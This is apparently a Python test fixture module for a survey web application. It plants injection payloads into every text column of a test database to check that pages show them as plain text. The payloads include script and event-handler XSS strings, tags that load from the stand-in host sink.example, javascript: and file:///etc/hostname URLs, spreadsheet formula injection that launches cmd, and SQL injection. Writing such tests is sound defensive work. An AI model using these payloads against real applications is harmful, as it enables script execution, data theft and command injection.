"""Texts that would do something if a page took them for anything but text, and where they go.

Every text column of the schema is planted with them, or excepted with a reason; so a new column
is either looked at by the tests or given a reason by whoever adds it.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterable
from contextlib import closing
from hashlib import sha256
from pathlib import Path
from typing import Any

import pysqlite3
import sqlalchemy as sa

from data import audit
from data.database import connect, writing
from data.schema import Base
from survey.instrument import Instrument, instruments

#: Where a text would fetch something from, or send somebody to.
SINK = "sink.example"
PWN = "window.__pwn=1"
_MARKUP = (
    f"<script>{PWN}</script>",
    f"<script src=//{SINK}/a.js></script>",
    f"</script><script>{PWN}</script>",
    f'"><img src=x onerror="{PWN}">',
    f"'><svg onload={PWN}>",
    f"<svg><script>{PWN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{PWN[7:]}</script>'>",
    f"<iframe src=https://{SINK}/f></iframe>",
    f"<details open ontoggle={PWN}>",
    f"<body onload={PWN}>",
    f"<input autofocus onfocus={PWN}>",
    f"<video><source onerror={PWN}></video>",
    f"<math href='javascript:{PWN}'>x</math>",
    f"<object data=https://{SINK}/o></object>",
    f"<embed src=https://{SINK}/e>",
    f"<link rel=stylesheet href=//{SINK}/c.css>",
    f"<style>body{{display:none;background:url(//{SINK}/s)}}</style>",
    f"<base href=//{SINK}/>",
    f"<meta http-equiv=refresh content='0;url=//{SINK}'>",
    f"<form action=//{SINK}><button>OK</button></form>",
    "<!-- the rest is gone",
    "--><b>bold</b><!--",
    "<![CDATA[x]]>&lt;b&gt;&#60;i&#62;",
    f"<a href='javascript:{PWN}'>here</a>",
    f"<a href='https://{SINK}/a'>here</a>",
    "<b>b</b><i>i</i><br><sub>s</sub>",
    f"{{{{constructor.constructor('{PWN}')()}}}}",
    f"`${{{PWN}}}`",
)
_MARKDOWN = (
    f"![i](https://{SINK}/p.png)",
    f"![i][r] [r]: https://{SINK}/r.png",
    f"[x](javascript:{PWN})",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    f"[x](https://{SINK}/l)",
    "[x](y) [z][1] [^1]",
    f"<https://{SINK}/auto>",
    f"https://{SINK}/bare www.{SINK}",
    f"someone@{SINK}",
    "$5–$10",
    "$$\\frac{1}{2}$$ $x^2$",
    "2 * 3 * 4 **b** _i_ __u__",
    "# Heading",
    "> quote",
    "- item",
    "1. item",
    "~~gone~~ `code`",
    "| a | b | |---|---|",
    "--- === ***",
    ":red[r] :smile: :material/delete: :blue-background[b]",
    "-> <- => >= != -- <->",
    "\\*a\\* \\<b\\>",
)
_OTHER = (
    "{0} {name} {n} {} %s %(name)s %d",
    "{% for x in y %}{{ 7*7 }}",
    "one\r\ntwo: three",
    "one\ttwo\n\n\n# three",
    "\u202egnp.exe\u202c",
    "a\u200bb\u2066c\u2069d",
    f'=HYPERLINK("https://{SINK}","x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "'; drop table project; --",
)
PAYLOADS = _MARKUP + _MARKDOWN + _OTHER

CLOSED = "a code from a closed list, checked by the database or when it is written"
MADE = "a hash, key or number that the program makes"
PROGRAM = "written by the program and by nobody else"
#: Text columns into which nobody can write what they like.
EXCEPTED = {
    CLOSED: """
        answer_theme.kind area.kind organisation.kind stakeholder_group.code
        template_phase.common_phase project.status activity_event.kind activity_event.phase
        assessment.phase assessment.kind assessment.state collection.wave collection.phase
        funnel_case.end_kind joint_output.kind journey_step.step organisation_tie.wave
        tie_roster.wave primary_metric.metric primary_metric.part portfolio_metric.metric
        portfolio_metric.part proposal_status.status release.scope user_grant.role
        assessment_action.construct assessment_event.act assessment_evidence.construct
        assessment_level.construct opening.link opening.languages reply.status response.language
        invitation.language open_answer.item reported_value.state reported_value.basis
        reported_value.metric reported_value.status counted_item.kind counted_item.source
        counted_item.role counted_item.exclusion proof.kind reported_event.act claim.level
        claim.grade evidence_file.kind import_batch.status import_batch.kind rejected_row.code
        replaced_row.record audit_event.action organisation.business_id organisation.size
        organisation.country counted_item.size
    """,
    MADE: """
        logged_event.case_key audit_event.salt audit_event.content_sha256
        audit_event.previous audit_event.sha256
        erased_mark.mark evidence_file.sha256 import_batch.file_sha256 import_batch.profile_sha256
        instrument_version.sha256 leaf.sha256 revision.inputs_sha256 segment.extract_sha256
        segment.statistics_sha256 sign_in_failure.who_sha256 used_link.id
        local_password.password_hash sign_in_session.token_sha256 user_invitation.code_sha256
        indicator_version.sha256
        journey_step.person_key attendance.person_key contribution.person_key release.sha256
        release.previous opening.public_id opening.token_sha256 response.id response.link_key
        response.source_key taken_back.id invitation.id invitation.person invitation.token_sha256
        counted_item.entity proof.sha256
    """,
    PROGRAM: """
        revision.code_version revision.inputs revision.metrics segment.instrument
        entity_leaf.profile entity_leaf.level measure_leaf.profile measure_leaf.level
        measure_leaf.metric measure_leaf.instrument measure_leaf.part measure_leaf.split
        finding.profile finding.code finding.detail released_population.profile
        released_population.instrument released_population.wave released_population.split
        released_population.split_value released_population.cells notice.version
        response.notice_version import_batch.remarks
    """,
    "a code that begins with a letter and holds letters, numbers and _ (survey.instrument)": """
        instrument_version.code
    """,
    "a code that the hashed definition holds too": """
        indicator_version.code
    """,
    "an object of whole numbers, checked when it is stored (data.fieldwork.answers)": """
        response.answers
    """,
    "signed: a changed document is refused, and what it says comes from the other columns": """
        release.document
    """,
    "how a person is found again; the pages show app_user.name": """
        app_user.issuer app_user.subject
    """,
    "the keys of rows to put back; read by nothing but undo": """
        replaced_row.row_key replaced_row.before
    """,
}
#: JSON columns whose texts are people's: planted inside, never as a whole.
INSIDE = {
    ("indicator_version", "definition"),
    ("instrument_version", "body"),
    ("assessment_event", "changes"),
    ("reported_event", "changes"),
    ("rejected_row", "detail"),
    ("import_batch", "dropped_columns"),
}
#: Planted through `data.audit`, since the database itself refuses to change a line.
APPENDED = {("audit_event", name) for name in ("actor", "subject", "detail")}
#: Columns that name who did something, as "number name".
WHO = {
    ("opening", "created_by"), ("reply", "written_by"), ("import_batch", "imported_by"),
    ("proposal", "taken_up_by"), ("audit_event", "actor"),
}  # fmt: skip
#: Columns that hold an address to open. What is written there is checked, and shown as a link only
#: where it is one, whoever put it there.
ADDRESSES = {("proof", "link"), ("assessment_level", "evidence_link")}
_ADDRESSES = (
    f"javascript:{PWN}",
    f"JaVaScRiPt:{PWN}//https://a",
    f" javascript:{PWN}",
    f"java\tscript:{PWN}",
    "data:text/html,<script>parent.__pwn=1</script>",
    "vbscript:msgbox(1)",
    f"//{SINK}/x",
    f"/\\{SINK}/x",
    f"{SINK}/x",
    "file:///etc/hostname",
    "https:",
    "https://[::1",
)
TOKEN = "wicked-" + "w" * 36


def excepted() -> dict[tuple[str, str], str]:
    """Why a column is not planted, by table and column."""
    return {
        tuple(name.split(".")): reason
        for reason, names in EXCEPTED.items()
        for name in names.split()
    }


def text_columns() -> set[tuple[str, str]]:
    """Every text column of the schema that holds no key of another row."""
    return {
        (table.name, column.name)
        for table in Base.metadata.sorted_tables
        for column in table.columns
        if isinstance(column.type, sa.String) and not column.foreign_keys
    }


def planted() -> list[tuple[str, str]]:
    """The columns that are planted, in a fixed order."""
    return sorted(text_columns() - excepted().keys())


def wicked(number: int, room: int | None = None, unique: int | None = None) -> str:
    """A wicked text with its mark behind it, the next ones where it does not fit into the room."""
    end = "" if unique is None else f" {unique}"
    for step in range(len(PAYLOADS)):
        which = (number + step) % len(PAYLOADS)
        text = f"{PAYLOADS[which]} w{which:02}w{end}"
        if room is None or len(text) <= room:
            return text
    raise ValueError(f"no wicked text fits into {room} letters")


def squeezed(text: str) -> str:
    """A text without blanks and without what is put in unseen."""
    return re.sub(r"[\s\u2060]+", "", text)


def marks(shown: str) -> list[str]:
    """The marks of wicked texts in a text."""
    return re.findall(r"w\d\dw", squeezed(shown))


def mangled(shown: str) -> list[str]:
    """The marks in a page's text that do not stand behind their own wicked text, to the letter."""
    seen = squeezed(shown)
    return [
        f"w{which:02}w: {seen[max(0, found.start() - 80) : found.end()]!r}"
        for found in re.finditer(r"w(\d\d)w", seen)
        if (which := int(found[1])) < len(PAYLOADS)
        and not seen[: found.start()].endswith(squeezed(PAYLOADS[which]))
    ]


# --- planting ------------------------------------------------------------------------------------


def plant(database: Path, offset: int = 0) -> None:
    """Put a wicked text into every row of every text column that people write into.

    offset: with which text the first row begins; each column begins with another.
    """
    with closing(pysqlite3.connect(database)) as connection:
        connection.execute("pragma foreign_keys=on")
        _add_rows(connection)
        for place, (table, column) in enumerate(planted()):
            if (table, column) not in INSIDE | APPENDED:
                _plant_column(connection, table, column, offset + 7 * place)
        _plant_definitions(connection, offset)
        _plant_questionnaire(connection, offset)
        connection.commit()
    engine = connect(f"sqlite:///{database}")
    with writing(engine) as connection:
        for number in range(offset, offset + len(PAYLOADS)):
            told = {wicked(number): wicked(number + 1)}
            audit.record(connection, wicked(number, 200), "denied", wicked(number, 200), told)
    engine.dispose()


def _plant_column(connection: Any, table: str, column: str, first: int) -> None:
    kind = Base.metadata.tables[table].columns[column]
    named = [name.name for name in Base.metadata.tables[table].primary_key]
    keys = ", ".join(f'"{name}"' for name in named)
    filled = f'select {keys} from "{table}" where "{column}" is not null'
    rows = connection.execute(filled).fetchall()
    rows = rows or connection.execute(f'select {keys} from "{table}"').fetchall()
    where = " and ".join(f'"{name}" = ?' for name in named)
    connection.executemany(
        f'update "{table}" set "{column}" = ? where {where}',
        [
            (_value(table, column, first + number, kind.type.length, number), *key)
            for number, key in enumerate(rows)
        ],
    )


def _value(table: str, column: str, first: int, room: int | None, number: int) -> str:
    if (table, column) in ADDRESSES and number % 2:
        return f"{_ADDRESSES[number // 2 % len(_ADDRESSES)]} {number}"
    if (table, column) in ADDRESSES:
        apart = [which for which, text in enumerate(PAYLOADS) if not text.startswith("http")]
        return wicked(apart[first % len(apart)], room, number)
    who = f"{number + 1} " if (table, column) in WHO else ""
    return who + wicked(first, room and room - len(who), number)


def _add_rows(connection: Any) -> None:
    """Rows of the tables that the sample leaves empty."""
    connection.executemany(
        "insert into import_batch (profile, kind, file_name, file_sha256, profile_sha256,"
        " imported_at, imported_by, status, rows_read, rows_stored, rows_rejected)"
        " values ('p', 'projects', 'f', ?, 'p', '2026-11-01 10:00:00', 'b', 'undone', 4, 3, 1)",
        [(f"{number:064}",) for number in range(3)],
    )
    batches = [row[0] for row in connection.execute("select id from import_batch")]
    connection.executemany(
        'insert into rejected_row (batch_id, "row", "column", code, value)'
        " values (?, 2, 'c', 'not_a_date', 'v')",
        [(batch,) for batch in batches],
    )
    connection.executemany(
        "insert into evidence_file (sha256, kind, bytes, content) values (?, 'pdf', 5, ?)",
        [("e" * 64, b"%PDF-")],
    )
    connection.execute(
        "insert into assessment_evidence (assessment_id, construct, sha256, name)"
        " select assessment_id, construct, ?, 'n' from assessment_level limit 20",
        ("e" * 64,),
    )
    connection.execute(
        "update opening set token_sha256 = ? where collection_id ="
        " (select max(collection_id) from opening where link = 'anonymous' and closes_at is null)",
        (sha256(TOKEN.encode()).hexdigest(),),
    )


def _said(body: object, numbers: Iterable[int]) -> object:
    """The body with a wicked text in the place of every text of three languages."""
    if isinstance(body, dict):
        if body and body.keys() <= {"fi", "sv", "en"}:
            return {language: wicked(next(numbers)) for language in body}
        return {name: _said(value, numbers) for name, value in body.items()}
    return [_said(value, numbers) for value in body] if isinstance(body, list) else body


def _plant_definitions(connection: Any, offset: int) -> None:
    """Indicators of one's own in the place of the common ones, whose words nobody can change."""
    numbers = iter(range(offset, 100_000))
    stored = connection.execute("select id, code, definition from indicator_version").fetchall()
    for key, code, definition in stored:
        own = f"OWN-{code}"
        body = json.dumps(
            _said(json.loads(definition), numbers) | {"code": own, "part_of": []},
            ensure_ascii=False, sort_keys=True, separators=(",", ":"),
        )  # fmt: skip
        connection.execute(
            "update indicator_version set code = ?, definition = ?, sha256 = ? where id = ?",
            (own, body, sha256(body.encode()).hexdigest(), key),
        )
    for table, column, value in (
        ("assessment_event", "changes", {"reason": {"before": wicked(offset), "since": wicked(1)}}),
        ("reported_event", "changes", {"text": {"before": wicked(offset), "since": wicked(2)}}),
        ("rejected_row", "detail", {"formats": wicked(offset)}),
        ("import_batch", "dropped_columns", [wicked(offset + step) for step in range(5)]),
    ):
        connection.execute(f'update "{table}" set "{column}" = ?', (json.dumps(value),))


def _plant_questionnaire(connection: Any, offset: int) -> None:
    """A questionnaire that somebody brought, asked by the link of TOKEN."""
    code = connection.execute(
        "select v.code || '@' || v.version from opening o join collection c on c.id ="
        " o.collection_id join instrument_version v on v.id = c.instrument_version_id"
        " where o.token_sha256 = ?",
        (sha256(TOKEN.encode()).hexdigest(),),
    ).fetchone()[0]
    body = _said(json.loads(instruments()[code].canonical), iter(range(offset, 100_000)))
    brought = Instrument.model_validate(body | {"code": "brought", "version": 1})
    number = connection.execute(
        "insert into instrument_version (code, version, sha256, body) values (?, ?, ?, ?)",
        (brought.code, brought.version, brought.sha256, brought.canonical),
    ).lastrowid
    connection.execute(
        "update collection set instrument_version_id = ? where id ="
        " (select collection_id from opening where token_sha256 = ?)",
        (number, sha256(TOKEN.encode()).hexdigest()),
    )
